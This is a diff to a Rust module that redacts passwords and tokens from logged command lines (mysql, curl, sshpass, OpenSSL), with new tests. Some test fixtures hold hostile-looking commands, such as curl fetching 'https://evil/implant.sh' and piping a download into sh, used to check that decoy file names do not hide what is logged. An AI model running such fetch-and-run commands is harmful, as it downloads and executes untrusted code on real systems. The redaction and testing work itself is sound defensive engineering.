@@ -5,9 +5,10 @@
 //!
 //! Built-in patterns (docs/EVENTS.md, "Secrets"), each replacing only the secret with
 //! [`MARK`]:
-//! - `-pSECRET` for MySQL-style clients (`mysql`, `mysqldump`, `mysqladmin`, `mariadb`, ...): in
-//!   a text after the client's name, in an argv after any argument naming one (`mysql -pX`,
-//!   `env mysql -pX`, `sudo mysql -pX`, `timeout 5 mysql -pX`);
+//! - `-pSECRET` for MySQL-style clients (`mysql`, `mysqldump`, `mysqladmin`, `mariadb`, ...)
+//!   named as the command (`mysql -pX`, `env mysql -pX`, `sudo mysql -pX`, `timeout 5 mysql
+//!   -pX`, `sh -c "cd /x && mysql -pX"`; `command`), as are curl's, sshpass's and OpenSSL's
+//!   options below: a file named `/tmp/openssl` does not hide what follows it;
 //! - `--NAME=X`, `--NAME X`, `-NAME=X`, `-NAME X` (any case) for an option whose name ends in
 //!   `password`, `passwd`, `token`, `secret`, `apikey`, `api-key` or `api_key` (`--password`,
 //!   `--db-password`, `-token`, `--client-secret`, `--api-key`), and `--pass`; not a flag whose
@@ -38,23 +39,12 @@ use std::{borrow::Cow, ops::Range, sync::OnceLock};
 
 use regex::{Captures, Regex, RegexSet};
 
+mod command;
+
+use command::{Commands, MYSQL_CLIENTS, Reader, Tool};
+
 /// What a secret is replaced with.
 pub const MARK: &str = "[REDACTED]";
-
-const MYSQL_CLIENTS: &[&str] = &[
-    "mysql",
-    "mysqldump",
-    "mysqladmin",
-    "mysqlimport",
-    "mysqlshow",
-    "mysqlcheck",
-    "mysqlpump",
-    "mariadb",
-    "mariadb-dump",
-    "mariadb-admin",
-    "mariadb-import",
-    "mariadb-check",
-];
 
 /// An option whose name (after `-` or `--`, in any case) ends with one of these takes a secret.
 const SECRET_SUFFIXES: &[&str] = &["password", "passwd", "token", "secret", "apikey", "api-key", "api_key"];
@@ -94,22 +84,28 @@ enum Kind {
 /// The built-in text patterns.
 fn builtin() -> Vec<(String, Kind)> {
     vec![
-        (format!(r"\b(?i:{})\b[^;&|\n]*?\s-p(?P<v>\S)", MYSQL_CLIENTS.join("|")), Kind::Word),
+        // A tool's options (group `tool`): only after it is named as a command (`command`).
+        (format!(r"\b(?P<tool>(?i:{}))\b[^;&|\n]*?\s-p(?P<v>\S)", MYSQL_CLIENTS.join("|")), Kind::Word),
         (
             r#"(?i)(?:^|[\s'"=])(?P<opt>-{1,2}[\w-]*?(?:password|passwd|token|secret|api[-_]?key|pass))(?:=|\s+)(?P<v>\S)"#
                 .to_owned(),
             Kind::Word,
         ),
         (
-            r"(?i)\b(?P<env>[A-Z0-9_]*PASS(?:WORD|WD)[A-Z0-9_]*|[A-Z0-9_]*_(?:SECRET|TOKEN)[A-Z0-9_]*|(?:SECRET|TOKEN)(?:_[A-Z0-9_]*)?|[A-Z0-9_]*_PASS|MYSQL_PWD|[A-Z0-9_]*API_?KEY|[A-Z0-9_]*PRIVATE_KEY)=(?P<v>\S)"
+            r"(?i)\b(?P<env>[A-Z0-9_]*PASS(?:WORD|WD)[A-Z0-9_]*|[A-Z0-9_]*_(?:SECRET|TOKEN)[A-Z0-9_]*|(?:SECRET|TOKEN)(?:_[A-Z0-9_]*)?|[A-Z0-9_]*_PASS|MYSQL_PWD|SSHPASS|[A-Z0-9_]*API_?KEY|[A-Z0-9_]*PRIVATE_KEY)=(?P<v>\S)"
                 .to_owned(),
             Kind::Word,
         ),
-        (r"\b(?i:curl)\b[^;&|\n]*?\s(?:-[uU]\s*|--(?:proxy-)?user(?:=|\s+))(?P<v>\S)".to_owned(), Kind::Credentials),
-        // sshpass's `-p X` and `-pX`; OpenSSL's `-passin pass:X` (`-passout`, `-pass`; its other
-        // sources, `env:`, `file:`, `fd:`, name where the secret is, not the secret).
-        (r"\b(?i:sshpass)\b[^;&|\n]*?\s-p\s*(?P<v>\S)".to_owned(), Kind::Word),
-        (r"(?:^|\s)-pass(?:in|out)?\s+pass:(?P<v>\S)".to_owned(), Kind::Word),
+        (
+            r"\b(?P<tool>(?i:curl))\b[^;&|\n]*?\s(?:-[uU]\s*|--(?:proxy-)?user(?:=|\s+))(?P<v>\S)".to_owned(),
+            Kind::Credentials,
+        ),
+        // sshpass's `-p X` and `-pX`; OpenSSL's `-k X` (`-k=X`, `--k X`) and `-passin pass:X`
+        // (`-passout`, `-pass`, `=` or `--` too; its other sources, `env:`, `file:`, `fd:`, name
+        // where the secret is, not the secret).
+        (r"\b(?P<tool>(?i:sshpass))\b[^;&|\n]*?\s-p\s*(?P<v>\S)".to_owned(), Kind::Word),
+        (r"\b(?P<tool>(?i:openssl))\b[^;&|\n]*?\s--?k(?:=|\s+)(?P<v>\S)".to_owned(), Kind::Word),
+        (r"(?:^|\s)--?pass(?:in|out)?(?:=|\s+)pass:(?P<v>\S)".to_owned(), Kind::Word),
         (r#"(?i)\bauthorization:\s*(?:bearer|basic|token)\s+([^\s'";]+)"#.to_owned(), Kind::Group),
         (r"(?i)\b[a-z][a-z0-9+.-]*://[^/\s:]*:([^/\s]+)@".to_owned(), Kind::Group),
     ]
@@ -147,14 +143,15 @@ const OPTION_WORDS: &[&str] = &["pass", "token", "secret", "apikey", "api-key", 
 /// The words `may_hold_builtin` looks for, in any ASCII case: `OPTION_WORDS`, then these.
 const CURL: usize = OPTION_WORDS.len();
 const AUTHORIZATION: usize = CURL + 1;
+const OPENSSL: usize = CURL + 2;
 
-/// Which of the words (`OPTION_WORDS`, "curl", "authorization:") `hay` holds, in any ASCII
+/// Which of the words (`OPTION_WORDS`, "curl", "authorization:", "openssl") `hay` holds, in any ASCII
 /// case, as bits by index (one pass); all of them if the searcher could not be built.
 fn words_in(hay: &[u8]) -> u32 {
     static WORDS: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> = std::sync::LazyLock::new(|| {
         aho_corasick::AhoCorasick::builder()
             .ascii_case_insensitive(true)
-            .build(OPTION_WORDS.iter().copied().chain(["curl", "authorization:"]))
+            .build(OPTION_WORDS.iter().copied().chain(["curl", "authorization:", "openssl"]))
             .ok()
     });
     match &*WORDS {
@@ -165,8 +162,8 @@ fn words_in(hay: &[u8]) -> u32 {
 
 /// Whether `text` may hold a secret of the built-in patterns, from what each needs: `-p`
 /// (MySQL clients), `--` or `-` with a secret option's word (secret options), `=`
-/// (assignments), `-u`/`-U` with `curl` (curl's credentials), `://` with `@` (a URL's password)
-/// or `authorization:` in any case (a header; any non-ASCII text is left to the patterns, whose
+/// (assignments), `-u`/`-U` with `curl` (curl's credentials), `-k` with `openssl` (its pass
+/// phrase), `://` with `@` (a URL's password) or `authorization:` in any case (a header; any non-ASCII text is left to the patterns, whose
 /// case folding is Unicode's). Most arguments have none of them (`/bin/true`, a path, a word,
 /// `-c`, `name-1`), and skipping the patterns for them saves a regular-expression scan per
 /// argument of every exec.
@@ -192,6 +189,7 @@ fn may_hold_builtin(text: &str) -> bool {
     (dash && words & ((1 << OPTION_WORDS.len()) - 1) != 0)
         || ((has(b"-u") || has(b"-U")) && words & 1 << CURL != 0)
         || (colon && words & 1 << AUTHORIZATION != 0)
+        || (has(b"-k") && words & 1 << OPENSSL != 0)
 }
 
 /// The quoting a shell reading a text as a script is in.
@@ -421,12 +419,15 @@ fn replace(re: &Regex, kind: Kind, text: &str) -> Option<String> {
     let mut out = String::new();
     let (mut last, mut pos, mut replaced) = (0, 0, false);
     let mut lex = Lexer::default();
+    let mut reader = Reader::default();
     while pos <= text.len() {
         let Some(caps) = re.captures_at(text, pos) else { break };
         let Some(m) = caps.get(0) else { break };
         let secret = match kind {
             Kind::Group => caps.get(1).map(|g| g.range()),
-            Kind::Word | Kind::Credentials => word_secret(&caps, kind, text, &mut lex),
+            Kind::Word | Kind::Credentials => {
+                word_secret(&caps, kind, text, &mut lex).filter(|_| tool_named(&caps, text, &mut reader))
+            }
         };
         pos = match secret {
             Some(r) if !r.is_empty() && &text[r.clone()] != MARK => {
@@ -456,6 +457,14 @@ fn replace(re: &Regex, kind: Kind, text: &str) -> Option<String> {
     Some(out)
 }
 
+/// Whether the match of a tool's option (group `tool`) follows the tool named as a command
+/// (`mysql -pX`, `sudo mysql -pX`), not an argument with its name (`curl -o /tmp/mysql -pX`);
+/// true for the patterns of no tool.
+fn tool_named(caps: &Captures, text: &str, reader: &mut Reader) -> bool {
+    let (Some(t), Some(v)) = (caps.name("tool"), caps.name("v")) else { return true };
+    command::tool(t.as_str()).is_some_and(|tool| reader.names(text.as_bytes(), t.start(), v.start(), tool))
+}
+
 /// The next character's start after `i` (past the end: `text.len() + 1`).
 fn after(text: &str, i: usize) -> usize {
     i + text[i..].chars().next().map_or(1, char::len_utf8)
@@ -476,6 +485,39 @@ enum Next {
     Credentials,
     /// OpenSSL's pass phrase argument (`-passin X`): `pass:SECRET`, or where the secret is.
     OpensslPass,
+}
+
+/// OpenSSL's options that take a pass phrase, in an argv after `openssl`.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum OpensslOption {
+    /// `-k`: the pass phrase.
+    K,
+    /// `-passin`, `-passout`, `-pass`: where the pass phrase is (`pass:X`, or `env:`, `file:`,
+    /// `fd:`, which name where it is).
+    Pass,
+}
+
+/// The OpenSSL pass phrase option `arg` is (one or two dashes), and where its value starts when
+/// it holds it (`-k=X`, `-passin=pass:X`).
+fn openssl_option(arg: &str) -> Option<(OpensslOption, Option<usize>)> {
+    let name = arg.strip_prefix("--").or_else(|| arg.strip_prefix('-'))?;
+    let (name, value) = match name.split_once('=') {
+        Some((n, _)) => (n, Some(arg.len() - name.len() + n.len() + 1)),
+        None => (name, None),
+    };
+    match name {
+        "k" => Some((OpensslOption::K, value)),
+        "passin" | "passout" | "pass" => Some((OpensslOption::Pass, value)),
+        _ => None,
+    }
+}
+
+/// `arg` with the secret of OpenSSL's `pass:X` at `at` replaced; `None` when it holds none there.
+fn pass_phrase(arg: &str, at: usize) -> Option<String> {
+    match arg.get(at..)?.strip_prefix("pass:") {
+        Some(v) if !v.is_empty() && v != MARK => Some(format!("{}pass:{MARK}", &arg[..at])),
+        _ => None,
+    }
 }
 
 /// `arg` with what follows its first colon from `at` replaced (`USER:SECRET`); `None` when it has
@@ -553,20 +595,24 @@ impl Redactor {
         let mut changed = false;
         let (mut mysql, mut curl, mut sshpass, mut openssl) = (false, false, false, false);
         let mut next = Next::Plain;
+        let mut commands = Commands::default();
         for a in args.iter_mut() {
+            // A tool's options are read only after it is named as a command (`command`).
+            if commands.word(a) {
+                match command::tool(crate::procs::basename(a)) {
+                    Some(Tool::Mysql) => mysql = true,
+                    Some(Tool::Curl) => curl = true,
+                    Some(Tool::Sshpass) => sshpass = true,
+                    Some(Tool::Openssl) => openssl = true,
+                    None => {}
+                }
+            }
             let new = match std::mem::replace(&mut next, Next::Plain) {
                 Next::Secret => (a.as_str() != MARK).then(|| MARK.to_owned()),
                 Next::Credentials => credentials(a, 0),
-                Next::OpensslPass => match a.strip_prefix("pass:") {
-                    Some(v) if !v.is_empty() && v != MARK => Some(format!("pass:{MARK}")),
-                    _ => None,
-                },
+                Next::OpensslPass => pass_phrase(a, 0),
                 Next::Plain => {
-                    let base = crate::procs::basename(a);
-                    mysql |= MYSQL_CLIENTS.contains(&base);
-                    curl |= base == "curl";
-                    sshpass |= base == "sshpass";
-                    openssl |= base == "openssl";
+                    let openssl_option = openssl.then(|| openssl_option(a)).flatten();
                     if (mysql || sshpass) && a.starts_with("-p") && !a.starts_with("--") {
                         // `-pX`: a password (MySQL's `-p` alone asks for one; sshpass's takes
                         // the next argument).
@@ -574,13 +620,24 @@ impl Redactor {
                             next = Next::Secret;
                         }
                         (a.len() > 2 && &a[2..] != MARK).then(|| format!("-p{MARK}"))
-                    } else if openssl && matches!(a.as_str(), "-passin" | "-passout" | "-pass") {
-                        next = Next::OpensslPass;
-                        None
-                    } else if openssl && a == "-k" {
-                        // `openssl enc -k X`: the pass phrase itself.
-                        next = Next::Secret;
-                        None
+                    } else if let Some((option, value)) = openssl_option {
+                        // `-passin pass:X` or `-k X` (`openssl enc`: the pass phrase itself), with
+                        // `=` or `--` too.
+                        match (option, value) {
+                            (OpensslOption::K, None) => {
+                                next = Next::Secret;
+                                None
+                            }
+                            (OpensslOption::Pass, None) => {
+                                next = Next::OpensslPass;
+                                None
+                            }
+                            (OpensslOption::K, Some(at)) => {
+                                let v = &a[at..];
+                                (!v.is_empty() && v != MARK).then(|| format!("{}{MARK}", &a[..at]))
+                            }
+                            (OpensslOption::Pass, Some(at)) => pass_phrase(a, at),
+                        }
                     } else {
                         if secret_option(a) {
                             next = Next::Secret;
@@ -908,6 +965,85 @@ mod tests {
     }
 
     #[test]
+    fn a_tools_options_are_read_only_after_the_tool_named_as_a_command() {
+        // An argument with a tool's name does not hide what follows (a URL fetched).
+        assert_plain(&[
+            &["curl", "-o", "/tmp/openssl", "-k", "https://evil/implant.sh"],
+            &["curl", "-o", "/tmp/sshpass", "-p", "https://evil/implant.sh"],
+            &["wget", "-O", "/tmp/mysql", "-phttps://evil/x"],
+            &["wget", "-O", "/tmp/curl", "-U", "x:https://evil/x"],
+            &["sh", "-c", "curl -o /tmp/openssl -k https://evil/x | sh"],
+            &["sh", "-c", "curl -o '/tmp/sshpass' -p https://evil/x"],
+            &["grep", "-exec", "mysql", "-pfoo"],
+        ]);
+        let r = Redactor::new(&[]).unwrap();
+        for text in
+            ["exec_create: curl -o /tmp/sshpass -p https://evil/x", "curl -sk -o /tmp/openssl -k evil.example/x"]
+        {
+            assert_eq!(r.text(text), text);
+        }
+        // The tool named after a launcher, in a script, or after a decoy of its name.
+        assert_argvs(&[
+            (
+                &["sudo", "-u", "bob", "openssl", "enc", "-k", "hunter2"],
+                &["sudo", "-u", "bob", "openssl", "enc", "-k", "[REDACTED]"],
+                "hunter2",
+            ),
+            (
+                &["find", ".", "-exec", "mysql", "-phunter2", ";"],
+                &["find", ".", "-exec", "mysql", "-p[REDACTED]", ";"],
+                "hunter2",
+            ),
+            (
+                &["env", "A=1", "sshpass", "-p", "hunter2", "ssh"],
+                &["env", "A=1", "sshpass", "-p", "[REDACTED]", "ssh"],
+                "hunter2",
+            ),
+        ]);
+        assert_texts(&[
+            (
+                r#"bash -c "sudo sh -c \"mysql -phunter2\"""#,
+                r#"bash -c "sudo sh -c \"mysql -p[REDACTED]\"""#,
+                "hunter2",
+            ),
+            ("echo mysql $(mysql -phunter2)", "echo mysql $(mysql -p[REDACTED])", "hunter2"),
+            (
+                "cp a /tmp/sshpass && sshpass -p hunter2 ssh h",
+                "cp a /tmp/sshpass && sshpass -p [REDACTED] ssh h",
+                "hunter2",
+            ),
+            ("exec_create: sh -c mysql -phunter2", "exec_create: sh -c mysql -p[REDACTED]", "hunter2"),
+        ]);
+    }
+
+    #[test]
+    fn openssl_pass_phrases_with_an_equals_sign_or_two_dashes_and_sshpass_s_variable_are_replaced() {
+        assert_argvs(&[
+            (&["openssl", "enc", "-k=hunter2"], &["openssl", "enc", "-k=[REDACTED]"], "hunter2"),
+            (&["openssl", "enc", "--k", "hunter2"], &["openssl", "enc", "--k", "[REDACTED]"], "hunter2"),
+            (&["openssl", "rsa", "-passin=pass:hunter2"], &["openssl", "rsa", "-passin=pass:[REDACTED]"], "hunter2"),
+            (
+                &["openssl", "rsa", "--passout", "pass:hunter2"],
+                &["openssl", "rsa", "--passout", "pass:[REDACTED]"],
+                "hunter2",
+            ),
+            (
+                &["env", "SSHPASS=hunter2", "sshpass", "-e", "ssh", "h"],
+                &["env", "SSHPASS=[REDACTED]", "sshpass", "-e", "ssh", "h"],
+                "hunter2",
+            ),
+        ]);
+        assert_texts(&[
+            ("openssl enc -aes256 -k hunter2 -in a", "openssl enc -aes256 -k [REDACTED] -in a", "hunter2"),
+            ("exec_start: openssl enc -k=hunter2", "exec_start: openssl enc -k=[REDACTED]", "hunter2"),
+            ("openssl rsa -passin=pass:hunter2", "openssl rsa -passin=pass:[REDACTED]", "hunter2"),
+            ("openssl rsa --passin pass:hunter2", "openssl rsa --passin pass:[REDACTED]", "hunter2"),
+            ("SSHPASS=hunter2 sshpass -e ssh h", "SSHPASS=[REDACTED] sshpass -e ssh h", "hunter2"),
+        ]);
+        assert_plain(&[&["openssl", "rsa", "-passin=env:KEY", "-kfile", "/run/k"], &["ssh", "-k", "h"]]);
+    }
+
+    #[test]
     fn common_spellings_of_secrets_are_replaced() {
         assert_argvs(&[
             (&["sshpass", "-p", "hunter2", "ssh", "h"], &["sshpass", "-p", "[REDACTED]", "ssh", "h"], "hunter2"),
@@ -1063,6 +1199,7 @@ mod tests {
                     proptest::sample::select(vec![
                         "--password", "=", "-p", "mysql", "curl", "-u", "bob:", "://", ":", "@", "'", "\"", "$'", "\\",
                         "`", "$(", ")", " ", ";", "|", "DB_PASSWORD=", "Authorization: Bearer ", "-token", "é", "ſ", "…",
+                        "openssl", "-k", "sudo", "-exec", "find", "sshpass",
                         "[REDACTED]",
                     ]).prop_map(str::to_owned),
                     ".{0,6}",
@@ -1096,6 +1233,7 @@ mod tests {
                         "https", "https:/", "://", "https://user:", "pw@", "user", "@", "//", " ", "\t", "\n", "'", "\"", "-", "-P", "- p",
                         "--", "-p", ":", "=", "p", "P", "x", "hunter2", "mysql -p", "--password ", "--token", "authorization: bearer ",
                         "Authorization: Basic ",
+                        "openssl", "OpenSSL", "-k", "-k=", "--k ", "/tmp/openssl", "SSHPASS",
                         "-token", "TOKEN", "-Secret", "api-key", "ApiKey", "api_KEY", "-apikey", "_pass", "DB_PASS", "-pass",
                         "MYSQL_PWD", "PRIVATE_KEY", "_FILE", "no-", "curl", "CURL", "-u", "-U", "--user", "--proxy-user",
                         "bob:", "redis://:", "p@ss@", "$'", "\\", "\\\"", ";", "|", "&", "(", "<", "db-password",
@@ -1132,6 +1270,8 @@ mod tests {
             "curl -u bob:x",
             "CURL -Ubob:x",
             "redis://:x@db",
+            "openssl enc -k x",
+            "SSHPASS=x",
         ] {
             assert!(may_hold_builtin(secret), "{secret:?}");
         }
